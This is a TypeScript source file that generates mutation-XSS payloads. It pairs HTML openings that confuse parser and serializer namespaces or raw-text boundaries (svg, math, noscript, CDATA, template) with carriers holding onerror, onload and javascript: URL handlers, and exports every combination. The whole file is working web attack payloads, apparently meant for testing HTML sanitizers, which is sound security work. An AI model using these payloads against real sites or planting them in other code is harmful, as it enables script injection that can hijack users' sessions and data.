/** Openings after which a parser and a serializer may disagree on the namespace, or on where raw text ends. */
const openings = [
  '<math><mtext><table><mglyph><style>',
  '<form><math><mtext></form><form><mglyph><style>',
  '<math><annotation-xml encoding="text/html"><style>',
  '<math><mi><mglyph><svg><mtext><style>',
  '<svg><style>',
  '<svg></p><style>',
  '<svg><p><style>',
  '<svg><desc><noscript>',
  '<svg><title><style>',
  '<svg><foreignObject><math><mi><mglyph><style>',
  '<svg><![CDATA[',
  '<template><svg><title>',
  '<select><template><style>',
  '<table><caption><svg><title><style>',
  '<noscript><p title="</noscript>',
  '<textarea><svg>',
  '<xmp>',
  '<iframe><!--',
  '<!--><!---!>'
]

/** What becomes an element with a handler once the text before it ends elsewhere than it seemed to. */
const carriers = [
  '<a id="</style><img src=x onerror=alert(1)>">',
  '<!--</style><img src=x onerror=alert(1)>-->',
  ']]><img src=x onerror=alert(1)>',
  '<img title="--><img src=x onerror=alert(1)>">',
  '<p title="</title></style></noscript></textarea></xmp></iframe><svg onload=alert(1)>">',
  '<img alt="``onerror=alert(1)" src=x>``<img src=`x`onerror=alert(1)>',
  '</p><img src=x onerror=alert(1)>',
  '<style><img src=x onerror=alert(1)></style>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<path id="</style></title><script>alert(1)</script>">',
  '<a xlink:href="javascript:alert(1)" href="java&#10;script:alert(1)">x</a>',
  '<form><form action="javascript:alert(1)"><input name=nodeName><button>x</button></form>'
]

/** Compose payloads of mutation XSS: every opening with every carrier. */
export function mutationPayloads(): string[] {
  return openings.flatMap((opening) => carriers.map((carrier) => opening + carrier))
}
